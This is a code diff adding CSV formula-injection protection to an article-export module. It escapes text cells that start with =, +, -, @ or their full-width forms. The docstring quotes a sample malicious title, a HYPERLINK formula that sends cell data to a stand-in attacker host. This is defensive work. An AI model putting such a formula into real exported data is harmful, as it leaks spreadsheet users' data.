@@ -2,6 +2,14 @@
 
 Lists and nested objects (authors, spans) are written as JSON inside the cell so that nothing is
 lost and a script can read them back; plain scalars stay plain.
+
+Article text is untrusted and a spreadsheet runs a cell that starts with = + - @ (or a tab or a
+carriage return, which some read past) as a formula: a title `=HYPERLINK("https://evil.example/?"&A1)`
+would send the reader's data away when clicked. Following OWASP's advice on CSV injection, such a
+text cell is written with a leading single quote, which spreadsheets show as text; numbers (ints and
+floats, such as offsets and figures) are never strings here, so a negative figure stays a number.
+A script reading the CSV back sees the quote: strip one leading "'" from text cells that start
+with "'" followed by one of these characters.
 """
 
 from __future__ import annotations
@@ -29,9 +37,15 @@ COLUMNS: dict[str, list[str]] = {
 }  # fmt: skip
 
 
+# OWASP's list, plus the full-width forms (＝ ＋ － ＠) that some spreadsheets also read as formulas
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
 def _cell(v: Any) -> Any:
     if isinstance(v, (list, dict)):
-        return json.dumps(v, ensure_ascii=False)
+        return json.dumps(v, ensure_ascii=False)  # starts with [ or {: never a formula
+    if isinstance(v, str) and v.startswith(FORMULA_START):
+        return "'" + v
     return "" if v is None else v
 
 
